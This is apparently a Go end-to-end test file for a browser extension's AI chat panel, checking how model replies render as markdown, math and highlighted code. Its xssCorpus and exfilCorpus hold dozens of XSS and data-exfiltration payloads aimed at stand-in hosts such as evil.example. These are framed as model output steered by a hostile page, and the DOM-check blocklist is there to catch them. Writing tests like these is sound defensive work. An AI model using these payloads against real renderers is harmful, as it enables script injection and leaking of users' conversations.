//go:build !js

package e2e

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/skiff-ai/skiff/internal/testkit"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"
)

const answer = "## Plan\n\nHere is **the** answer, with [a link](https://example.com/docs) and `inline code`.\n\n" +
	"| Step | Cost |\n|------|-----:|\n| fetch | 3 |\n| parse | 5 |\n\n" +
	"1. first\n2. second\n\n" +
	"```go\nfunc main() {\n\tprintln(\"hi\")\n}\n```\n\n" +
	"> quoted\n\nDone.\n"

func TestMarkdownStreamsAndRenders(t *testing.T) {
	srv := testkit.OpenAIText(t, answer, 7, 15*time.Millisecond)
	tab := browser.Panel(t)
	Configure(t, tab, "openai", srv.URL, "sk-md", "gpt-test")
	SendMessage(t, tab, "plan it")
	// Mid-stream: finished blocks are in the committed part, only the tail is re-rendered.
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "streaming" && `+lastAssistant+`.querySelector(".md-done table")`)
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)

	got := JS[string](t, tab, `(() => { const c = `+lastAssistant+`.querySelector(".content"); return JSON.stringify({
		h2: c.querySelector("h2")?.textContent, strong: c.querySelector("strong")?.textContent,
		th: c.querySelectorAll("th").length, td: c.querySelectorAll("td").length, right: c.querySelector("td:nth-child(2)")?.getAttribute("align"),
		ol: c.querySelectorAll("ol > li").length, lang: c.querySelector(".code .lang")?.textContent,
		code: c.querySelector(".code pre code")?.textContent, copy: c.querySelector(".code .copy-code")?.textContent,
		href: c.querySelector("a")?.getAttribute("href"), target: c.querySelector("a")?.target, rel: c.querySelector("a")?.rel,
		quote: c.querySelector("blockquote")?.textContent.trim(), same: c.innerHTML === (() => { const d = document.createElement("div"); d.append(skiffTest.markdown.render(`+jsString(answer)+`)); return d.innerHTML })() }) })()`)
	want := `{"h2":"Plan","strong":"the","th":2,"td":4,"right":"right","ol":2,"lang":"go","code":"func main() {\n\tprintln(\"hi\")\n}\n","copy":"Copy","href":"https://example.com/docs","target":"_blank","rel":"noopener noreferrer nofollow","quote":"quoted","same":true}`
	if got != want {
		t.Fatalf("rendered\n got %s\nwant %s", got, want)
	}

	// Copy puts the code on the clipboard.
	for _, name := range []string{"clipboard-read", "clipboard-write"} {
		if _, err := chromedp.CallBrowser(tab, cdpbrowser.SetPermission, cdpbrowser.SetPermissionParams{
			Permission: &cdpbrowser.PermissionDescriptor{Name: name}, Setting: cdpbrowser.PermissionSettingGranted, Origin: browser.URL("")}); err != nil {
			t.Fatal(err)
		}
	}
	Do(t, tab, chromedp.Click(chromedp.JSPath(lastAssistant+`.querySelector(".copy-code")`)))
	WaitJS(t, tab, lastAssistant+`.querySelector(".copy-code").textContent === "Copied"`)
	if clip := JS[string](t, tab, `navigator.clipboard.readText()`); clip != "func main() {\n\tprintln(\"hi\")\n}\n" {
		t.Fatalf("clipboard %q", clip)
	}
	// Copied twice in a row: the label goes back to Copy, not to "Copied" (a timer of each
	// copy's, the one waited on here set after both).
	if got := JS[string](t, tab, `import(new URL("dom.js", location.href)).then(async (m) => { const b = `+lastAssistant+`.querySelector(".copy-code");
		await m.copyText("one", b); await m.copyText("two", b); await new Promise((r) => setTimeout(r, 1600)); return b.textContent })`); got != "Copy" {
		t.Errorf("after two copies the button says %q", got)
	}
}

// Each payload tries to run script (setting window.__xss) or to load something, written as
// model output. The panel's CSP would block inline script anyway; the test counts CSP
// violations too, so a payload that got past the sanitizer and was only stopped by CSP fails.
var xssCorpus = []string{
	`<img src=x onerror="window.__xss=1">`,
	`<script>window.__xss=2</script>`,
	`[click](javascript:window.__xss=3)`,
	`[click](JaVaScRiPt:window.__xss=4)`,
	`[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9NTwvc2NyaXB0Pg==)`,
	`<svg onload="window.__xss=6"><circle r=5></circle></svg>`,
	`<svg><script>window.__xss=7</script></svg>`,
	`<a href="javascript:window.__xss=8">x</a>`,
	`<iframe src="javascript:window.__xss=9"></iframe>`,
	`<iframe srcdoc="<script>parent.__xss=10</script>"></iframe>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=11">`,
	`<details open ontoggle="window.__xss=12">x</details>`,
	`<form action="javascript:window.__xss=13"><button>go</button></form>`,
	`<object data="javascript:window.__xss=14"></object>`,
	`<embed src="data:text/html,<script>parent.__xss=15</script>">`,
	`![x](x" onerror="window.__xss=16)`,
	`[a](<javascript:window.__xss=17>)`,
	`[a](java&#x09;script:window.__xss=18)`,
	`<a href="&#106;avascript:window.__xss=19">entity</a>`,
	`<style>@import 'https://evil.example/x.css'; body{display:none}</style>`,
	`<noscript><p title="</noscript><img src=x onerror=window.__xss=21>">`,
	`<<img src=x onerror=window.__xss=22>`,
	"<img src=\"x` `<script>window.__xss=23</script>\"` `>",
	"[ref]\n\n[ref]: javascript:window.__xss=24",
	`<meta http-equiv="refresh" content="0;url=javascript:window.__xss=25">`,
	`<base href="javascript:/">[rel](x)`,
	`<input autofocus onfocus="window.__xss=27">`,
	`<video><source onerror="window.__xss=28"></video>`,
	`<div style="background:url(javascript:window.__xss=29)">styled</div>`,
	`$\href{javascript:window.__xss=31}{math link}$ and $$\url{javascript:window.__xss=32}$$`,
	`<span class="math">\href{javascript:window.__xss=33}{x}\htmlStyle{background:red}{y}</span>`,
	`\(\htmlClass{msg}{\htmlId{messages}{z}}\) \[\htmlData{onclick=window.__xss=34}{w}\]`,
	`<a href="https://ok.example/" onclick="window.__xss=30">ok link with onclick</a>`,
	`![tracker](https://evil.example/leak?q=secret)`,
	`<a href="https://ok.example/" target="_self" id="messages">clobber</a>`,
}

// unsafe lists what is wrong with the rendered DOM under root (a JS expression).
const unsafeJS = `((root) => {
	const bad = [];
	const banned = "script,iframe,object,embed,svg,math,style,link,meta,base,form,input,textarea,select,img,video,audio,source,picture,frame,frameset,template,noscript";
	// KaTeX's own drawing of math (after the sanitizer: a model cannot mark an element drawn)
	// holds MathML and sizes in style attributes; links, handlers and ids are checked there too.
	const drawn = (n) => !!n.closest(".math[data-drawn], .math-block[data-drawn]");
	for (const n of root.querySelectorAll(banned)) if (!(n.localName === "math" && drawn(n))) bad.push("element " + n.nodeName);
	for (const n of root.querySelectorAll("*")) {
		if (n.matches(".katex, .katex *") && !drawn(n)) bad.push("KaTeX's classes outside math it drew: " + n.outerHTML.slice(0, 80));
		for (const a of n.attributes) {
			if (/^on/i.test(a.name)) bad.push(n.nodeName + " has " + a.name);
			if ((a.name === "style" && !drawn(n)) || a.name === "id" || a.name === "name" || a.name === "srcdoc" || a.name === "formaction") bad.push(n.nodeName + " has " + a.name);
			if (/^(href|src|action|data|xlink:href)$/i.test(a.name) && !/^(https?:|mailto:)/i.test(a.value)) bad.push(n.nodeName + " " + a.name + "=" + a.value);
		}
	}
	for (const a of root.querySelectorAll("a[href]")) if (a.target !== "_blank" || !/noopener/.test(a.rel)) bad.push("link without target/rel: " + a.href);
	return bad;
})`

// mathReady has page's renderer draw a formula and waits until KaTeX drew it: KaTeX is loaded
// the first time a reply holds math, and what a check reads after that is KaTeX's drawing.
func mathReady(t *testing.T, page context.Context) {
	t.Helper()
	JS[bool](t, page, `(() => { const d = document.createElement("div"); d.id = "math-ready"; d.append(skiffTest.markdown.render("$x^2$")); document.body.append(d); return true })()`)
	WaitJS(t, page, `!!document.querySelector("#math-ready .math[data-drawn] .katex")`)
	JS[bool](t, page, `(document.getElementById("math-ready").remove(), true)`)
}

// rendererPage serves the panel's renderer (markdown.js and its pinned libraries, as built)
// on a plain http page with no Content-Security-Policy: there, anything the sanitizer lets
// through runs, so "nothing ran" means the sanitizer stopped it, not the extension's CSP.
func rendererPage(t *testing.T) string {
	dir := filepath.Join(RepoRoot(), "ext", "panel")
	mux := http.NewServeMux()
	mux.Handle("/panel/", http.StripPrefix("/panel/", http.FileServer(http.Dir(dir))))
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, `<!doctype html><meta charset="utf-8"><title>renderer</title>
<script src="/panel/vendor/marked.js"></script><script src="/panel/vendor/purify.js"></script>
<script type="module">import * as markdown from "/panel/markdown.js"; globalThis.skiffTest = { markdown };</script>
<body></body>`)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL + "/"
}

func TestXSSCorpusNeverExecutes(t *testing.T) {
	if len(xssCorpus) < 15 {
		t.Fatal("the corpus must hold at least 15 payloads")
	}
	page := browser.Tab(t, rendererPage(t))
	WaitJS(t, page, `typeof skiffTest === "object"`)

	// The detectors work: the first payload inserted raw (unsanitized) does run here, and the
	// DOM check flags it.
	JS[bool](t, page, `(() => { const d = document.createElement("div"); d.innerHTML = `+jsString(xssCorpus[0])+`; document.body.append(d); window.__raw = d; return true })()`)
	WaitJS(t, page, `window.__xss === 1`)
	if bad := JS[[]string](t, page, unsafeJS+`(window.__raw)`); len(bad) == 0 {
		t.Fatal("the DOM check does not see a raw onerror handler")
	}
	JS[bool](t, page, `(window.__raw.remove(), delete window.__xss, true)`)
	mathReady(t, page)

	// Each payload alone through the renderer, inserted into the live document.
	for i, p := range xssCorpus {
		bad := JS[[]string](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.append(skiffTest.markdown.render(%s)); document.body.append(d); return %s(d) })()`, jsString(p), unsafeJS))
		if len(bad) > 0 {
			t.Errorf("payload %d %q rendered unsafely: %v", i+1, p, bad)
		}
	}
	time.Sleep(700 * time.Millisecond) // time for any handler, load or refresh to fire
	if v := JS[string](t, page, `String(window.__xss)`); v != "undefined" {
		t.Errorf("payload %s executed", v)
	}
	// Images became links that load nothing.
	if n := JS[int](t, page, `[...document.querySelectorAll("a.img-link")].filter(a => a.href.startsWith("https://evil.example/leak")).length`); n != 1 {
		t.Errorf("tracking image became %d links", n)
	}

	// All of them as one streamed reply, through the real chat path in the panel.
	tab := browser.Panel(t)
	// Chrome reports inline handlers it meets while DOMPurify parses (in an inert document); a
	// real leak is an element in the panel that still carries a handler when it is reported.
	JS[bool](t, tab, `(() => { window.__csp = []; document.addEventListener("securitypolicyviolation", (e) => {
		if (e.target instanceof Element && e.target.getAttributeNames().some((n) => /^on/i.test(n))) window.__csp.push(e.target.outerHTML.slice(0, 200)) }); return true })()`)
	var all strings.Builder
	for i, p := range xssCorpus {
		fmt.Fprintf(&all, "Payload %d:\n\n%s\n\n", i+1, p)
	}
	srv := testkit.OpenAIText(t, all.String(), 11, 2*time.Millisecond)
	Configure(t, tab, "openai", srv.URL, "sk-xss", "gpt-test")
	SendMessage(t, tab, "show me the payloads")
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
	time.Sleep(700 * time.Millisecond)
	if bad := JS[[]string](t, tab, unsafeJS+`(document.getElementById("messages"))`); len(bad) > 0 {
		t.Errorf("chat rendered unsafely: %v", bad)
	}
	if v := JS[string](t, tab, `String(window.__xss)`); v != "undefined" {
		t.Errorf("payload %s executed in the panel", v)
	}
	if v := JS[[]string](t, tab, `window.__csp`); len(v) > 0 {
		t.Errorf("CSP had to block handlers on %v: the sanitizer let them through", v)
	}
	// The user's own text is shown as text, never parsed.
	SendMessage(t, tab, `<img src=x onerror="window.__xss='user'">`)
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
	if n := JS[int](t, tab, `document.querySelectorAll('#messages img').length`); n != 0 {
		t.Errorf("user text became %d images", n)
	}
}

// exfilCorpus is model output that tries to make the panel fetch a URL by itself (each EVIL
// becomes the address of a server that counts what reaches it): a page that steers the model
// could leak the conversation in that URL.
var exfilCorpus = []string{
	`![x](EVIL/md-image?c=secret)`,
	"![ref][r]\n\n[r]: EVIL/md-ref-image",
	`<img src="EVIL/img">`,
	`<img srcset="EVIL/srcset 1x, EVIL/srcset2 2x">`,
	`<img lowsrc="EVIL/lowsrc" dynsrc="EVIL/dynsrc" src="x.png">`,
	`<picture><source srcset="EVIL/source"><img src="EVIL/picture"></picture>`,
	`<table background="EVIL/table-bg"><tr><td background="EVIL/td-bg">cell</td></tr></table>`,
	`<body background="EVIL/body-bg">body</body>`,
	`<marquee background="EVIL/marquee">x</marquee>`,
	`<div style="background:url(EVIL/css-url)">styled</div>`,
	`<div style="list-style-image:url('EVIL/list-image')">x</div>`,
	`<style>@import "EVIL/import"; p { background: url(EVIL/style-url) }</style><p>p</p>`,
	`<link rel="stylesheet" href="EVIL/link-css">`,
	`<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload"><link rel="icon" href="EVIL/icon">`,
	`<meta http-equiv="refresh" content="0;url=EVIL/refresh">`,
	"<base href=\"EVIL/base/\">\n\n![relative](rel.png) [relative link](rel.html)",
	`<iframe src="EVIL/iframe"></iframe>`,
	`<iframe srcdoc="<img src=EVIL/srcdoc>"></iframe>`,
	`<frameset><frame src="EVIL/frame"></frameset>`,
	`<object data="EVIL/object"></object><embed src="EVIL/embed">`,
	`<video poster="EVIL/poster" src="EVIL/video"><track src="EVIL/track"></video>`,
	`<audio src="EVIL/audio" autoplay></audio>`,
	`<input type="image" src="EVIL/input-image">`,
	`<a ping="EVIL/ping" href="https://ok.example/">a link with ping</a>`,
	`<form action="EVIL/form"><button formaction="EVIL/formaction">go</button></form>`,
	`<script src="EVIL/script"></script>`,
	`<svg><image href="EVIL/svg-image"/><use href="EVIL/svg-use#x"/><style>@import url(EVIL/svg-style)</style></svg>`,
	`<svg><feImage xlink:href="EVIL/feimage"/></svg>`,
	`<math><mglyph src="EVIL/mglyph"/><maction actiontype="statusline" xlink:href="EVIL/maction">m</maction></math>`,
	`<img src=x onerror="fetch('EVIL/onerror')">`,
	`<details open ontoggle="fetch('EVIL/ontoggle')">toggle</details>`,
	`<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='EVIL/data-svg'/%3E%3C/svg%3E">`,
	`<portal src="EVIL/portal"></portal>`,
	`<div data-src="EVIL/data-src" data-background="EVIL/data-bg">lazy-load bait</div>`,
	`<blockquote cite="EVIL/cite">quote</blockquote><q cite="EVIL/q">q</q>`,
	`<a href="EVIL/link?c=secret">a plain link: fetched only if the user clicks</a>`,
	`$\includegraphics{EVIL/tex-img.png}$ $$\href{EVIL/tex-href}{\text{click}}$$ \(\url{EVIL/tex-url}\)`,
}

// TestExfiltrationCorpusLoadsNothing renders replies that try to make the panel fetch an
// address: through the sanitizer alone (on a page without a Content-Security-Policy), then
// through the real chat in the panel (sanitizer and CSP). No request may reach the server.
// Then the second wall alone: markup inserted raw into the panel, past the sanitizer, still
// fetches nothing, because the extension pages' CSP allows images, media, frames and styles
// only from the extension; the same markup on a page without that CSP does fetch (the
// counting server sees it), which shows the count can fail.
func TestExfiltrationCorpusLoadsNothing(t *testing.T) {
	site := testkit.NewSite(t)
	corpus := make([]string, len(exfilCorpus))
	for i, p := range exfilCorpus {
		corpus[i] = strings.ReplaceAll(p, "EVIL", site.Evil)
	}

	page := browser.Tab(t, rendererPage(t))
	WaitJS(t, page, `typeof skiffTest === "object"`)
	mathReady(t, page)
	for _, p := range corpus {
		JS[bool](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.append(skiffTest.markdown.render(%s)); document.body.append(d); return true })()`, jsString(p)))
	}
	time.Sleep(time.Second)
	if hits := site.EvilHits(); len(hits) > 0 {
		t.Errorf("the sanitizer let %d requests out: %v", len(hits), hits)
	}
	seen := len(site.EvilHits())

	tab := browser.Panel(t)
	var all strings.Builder
	for i, p := range corpus {
		fmt.Fprintf(&all, "Reply %d:\n\n%s\n\n", i+1, p)
	}
	srv := testkit.OpenAIText(t, all.String(), 17, time.Millisecond)
	Configure(t, tab, "openai", srv.URL, "sk-exfil", "gpt-test")
	SendMessage(t, tab, "show me")
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
	time.Sleep(time.Second)
	if hits := site.EvilHits()[seen:]; len(hits) > 0 {
		t.Errorf("the panel let %d requests out: %v", len(hits), hits)
	}
	seen = len(site.EvilHits())
	if n := JS[int](t, tab, `document.querySelectorAll('#messages a.img-link').length`); n < 3 {
		t.Errorf("only %d images became links", n)
	}

	// The second wall: raw markup in the panel, no sanitizer.
	raw := strings.ReplaceAll(`<img src="EVIL/raw-img"><table background="EVIL/raw-bg"><tr><td>t</td></tr></table><div style="background:url(EVIL/raw-css)">d</div><iframe src="EVIL/raw-iframe"></iframe><video poster="EVIL/raw-poster"></video><link rel="stylesheet" href="EVIL/raw-link">`, "EVIL", site.Evil)
	JS[bool](t, tab, `(() => { window.__blocked = []; document.addEventListener("securitypolicyviolation", (e) => window.__blocked.push(e.blockedURI)); return true })()`)
	JS[bool](t, tab, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.innerHTML = %s; document.getElementById("messages").append(d); return true })()`, jsString(raw)))
	time.Sleep(time.Second)
	if hits := site.EvilHits()[seen:]; len(hits) > 0 {
		t.Errorf("the panel's CSP let %d requests out: %v", len(hits), hits)
	}
	seen = len(site.EvilHits())
	if n := len(JS[[]string](t, tab, `window.__blocked`)); n < 4 {
		t.Errorf("the CSP reported %d blocked loads, want at least 4", n)
	}
	// Control: without the CSP, the same markup is fetched and counted.
	JS[bool](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.innerHTML = %s; document.body.append(d); return true })()`, jsString(raw)))
	Eventually(t, 5*time.Second, func() bool { return len(site.EvilHits()) >= seen+3 }, "the counting server saw nothing from raw markup on a page without the CSP")
}

// streamedReply has a fresh panel's model stream reply in n pieces and returns the panel once
// the reply is done.
func streamedReply(t *testing.T, reply string, n int) context.Context {
	t.Helper()
	tab := browser.FreshPanel(t)
	srv := testkit.OpenAIText(t, reply, n, 5*time.Millisecond)
	Configure(t, tab, "openai", srv.URL, "sk-test", "gpt-test")
	SendMessage(t, tab, "show me")
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
	return tab
}

// sameFields reports each field of want that got does not hold.
func sameFields(t *testing.T, got, want map[string]any) {
	t.Helper()
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s: %#v, want %#v", k, got[k], v)
		}
	}
}

// Math in a reply is drawn with KaTeX, in the panel as the model streams it: TeX between $…$,
// \(…\), $$…$$ and \[…\] (set apart, or inside a paragraph as models write it: the paragraph
// is cut there, the formula set apart between its two halves), with KaTeX's
// fonts from the extension; dollar amounts and code stay as written, TeX KaTeX cannot read
// shows as written (marked), and the result passes the same check as every reply.
func TestMathIsDrawn(t *testing.T) {
	reply := "Energy: $E = mc^2$, and \\(a^2 + b^2 = c^2\\).\n\n" +
		"$$\n\\int_0^1 x\\,dx = \\frac{1}{2}\n$$\n\n" +
		"The sum\n\\[\n\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}\n\\]\nwhere n counts.\n\n" +
		"It costs $5 and $10 today. Code: `$HOME` and `$x$`.\n\n" +
		"Broken: $\\frac{1}{$ stays readable."
	tab := streamedReply(t, reply, 9)
	c := lastAssistant + `.querySelector(".content")`
	WaitJS(t, tab, c+`.querySelectorAll(".math[data-drawn] .katex").length === 2 && `+c+`.querySelectorAll(".math-block[data-drawn] .katex-display").length === 2 && `+c+`.querySelectorAll(".math[data-drawn] .katex-error").length === 1`)
	got := JS[map[string]any](t, tab, `(() => { const c = `+c+`; return {
		prices: [...c.querySelectorAll("p")].some(p => p.textContent.includes("It costs $5 and $10 today.")),
		code: [...c.querySelectorAll("code")].map(x => x.textContent).join("|"),
		where: c.querySelector(".math-block").closest("p") ? "p" : "",
		inPara: [...c.querySelectorAll("p")].some(p => p.textContent === "The sum" && p.nextElementSibling.matches("p.math-block") && p.nextElementSibling.nextElementSibling.textContent === "where n counts."),
		tex: c.querySelector(".math").title,
		mathml: c.querySelector(".math .katex-mathml annotation").textContent,
	} })()`)
	want := map[string]any{"prices": true, "code": "$HOME|$x$", "where": "p", "inPara": true, "tex": "E = mc^2", "mathml": "E = mc^2"}
	sameFields(t, got, want)
	if bad := JS[[]string](t, tab, unsafeJS+`(document.getElementById("messages"))`); len(bad) > 0 {
		t.Errorf("math rendered unsafely: %v", bad)
	}
	// KaTeX's fonts come from the extension (the panel's CSP allows nothing else).
	WaitJS(t, tab, `document.fonts.ready.then(() => [...document.fonts].some(f => f.family.replace(/"/g, "") === "KaTeX_Main" && f.status === "loaded"))`)

	// While a reply streams it is cut at blank lines into finished blocks, never inside a
	// block of math (which may hold a blank line) any more than inside code: what comes after
	// the cut is all that is drawn again.
	after := JS[[]string](t, tab, `import(new URL("markdown.js", location.href)).then((m) => [
		"$$\na = 1\n\nb = 2\n$$\n\nafter",
		"\\[\na\n\nb\n\\]\n\nafter",
		"$$x$$\n\nafter",
		"`+"```"+`\n$$\n\n`+"```"+`\n\nafter",
		"$$\na\n\nstill open",
	].map((s) => s.slice(m.safeBreak(s))))`)
	if want := []string{"after", "after", "after", "after", "$$\na\n\nstill open"}; strings.Join(after, "|") != strings.Join(want, "|") {
		t.Errorf("what is left after the cut: %q, want %q", after, want)
	}
}

// A code block that names its language is coloured with highlight.js once the reply has it
// whole: its text is unchanged (Copy copies it as written), a language highlight.js does not
// know stays plain, markup in code stays text, and classes only colour: a reply's own span
// with a class that is not a colour's loses it.
func TestCodeIsColoured(t *testing.T) {
	reply := "```go\nfunc main() { return \"<img src=x onerror=window.__xss=1>\" }\n```\n\n" +
		"```python\ndef f(x):\n    return x * 2  # twice\n```\n\n" +
		"```klingon\nQapla' batlh\n```\n\n" +
		"Inline `if x` and <span class=\"hljs-keyword msg\">not a keyword</span>."
	tab := streamedReply(t, reply, 13)
	c := lastAssistant + `.querySelector(".content")`
	WaitJS(t, tab, c+`.querySelectorAll("pre code[data-coloured]").length === 2`)
	got := JS[map[string]any](t, tab, `(() => { const c = `+c+`; const code = (l) => c.querySelector("pre code.language-" + l); return {
		goKeyword: [...code("go").querySelectorAll("span.hljs-keyword")].map(s => s.textContent).join(" "),
		goString: code("go").querySelector("span.hljs-string")?.textContent,
		goText: code("go").textContent,
		pyComment: code("python").querySelector("span.hljs-comment")?.textContent,
		plain: code("klingon").children.length,
		inline: c.querySelector("p code").children.length,
		span: c.querySelector("p span")?.getAttribute("class") ?? "none",
		img: c.querySelectorAll("img").length,
		coloured: getComputedStyle(code("go").querySelector("span.hljs-keyword")).color !== getComputedStyle(code("go")).color,
	} })()`)
	want := map[string]any{"goKeyword": "func return", "goString": `"<img src=x onerror=window.__xss=1>"`,
		"goText": "func main() { return \"<img src=x onerror=window.__xss=1>\" }\n", "pyComment": "# twice",
		"plain": float64(0), "inline": float64(0), "span": "none", "img": float64(0), "coloured": true}
	sameFields(t, got, want)
	if bad := JS[[]string](t, tab, unsafeJS+`(document.getElementById("messages"))`); len(bad) > 0 {
		t.Errorf("code rendered unsafely: %v", bad)
	}
}

// An awkward reply stays inside the panel at the side panel's usual width: a heading of forty
// words, a word of 3,000 letters, inline code and a code line of hundreds, a table of thirty
// columns, a list nested thirty deep, a long formula. What is too wide scrolls in its own box
// (code, a table, a formula); nothing else makes the chat scroll sideways, and a heading is not
// twice the text's size.
func TestAnAwkwardReplyStaysInThePanel(t *testing.T) {
	deep := ""
	for i := range 30 {
		deep += strings.Repeat("  ", i) + "- level " + fmt.Sprint(i+1) + "\n"
	}
	reply := "# A heading " + strings.Repeat("word ", 40) + "\n\n" + strings.Repeat("A", 3000) + "\n\n`" + strings.Repeat("x", 400) + "`\n\n```\n" +
		strings.Repeat("y", 500) + "\n```\n\n| " + strings.Repeat("col | ", 30) + "\n|" + strings.Repeat("---|", 30) + "\n| " + strings.Repeat("value | ", 30) +
		"\n\n" + deep + "\n$$" + strings.Repeat("x+", 200) + "x$$\n"
	srv := testkit.OpenAIText(t, reply, 64, 0)
	tab := browser.FreshPanel(t)
	size(t, tab, "light")
	Configure(t, tab, "openai", srv.URL, "sk-awkward", "gpt-test")
	SendMessage(t, tab, "Be awkward.")
	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done" && !!`+lastAssistant+`.querySelector("li li li li li li li li li li li li li li li li li li li li li li li li li li li li li li")`)
	// The formula drawn, with KaTeX's stylesheet (which hides the MathML copy): the check
	// ran before KaTeX drew it, except on a busy machine, where the drawn formula came first.
	WaitJS(t, tab, `(k => !!k && getComputedStyle(k).position === "absolute")(`+lastAssistant+`.querySelector(".math-block[data-drawn] .katex-mathml"))`)
	if bad := spilling(t, tab); len(bad) > 0 {
		t.Errorf("past the panel's edge: %q", bad)
	}
	if !JS[bool](t, tab, `(m => m.scrollWidth > m.clientWidth && /auto|scroll/.test(getComputedStyle(m).overflowX) && m.getBoundingClientRect().right <= document.documentElement.clientWidth)(`+lastAssistant+`.querySelector(".math-block"))`) {
		t.Error("the long formula does not scroll in its own box")
	}
	if r := JS[float64](t, tab, `parseFloat(getComputedStyle(`+lastAssistant+`.querySelector("h1")).fontSize) / parseFloat(getComputedStyle(`+lastAssistant+`.querySelector("p")).fontSize)`); r > 1.5 {
		t.Errorf("the reply's heading is %.2f times its text", r)
	}
}
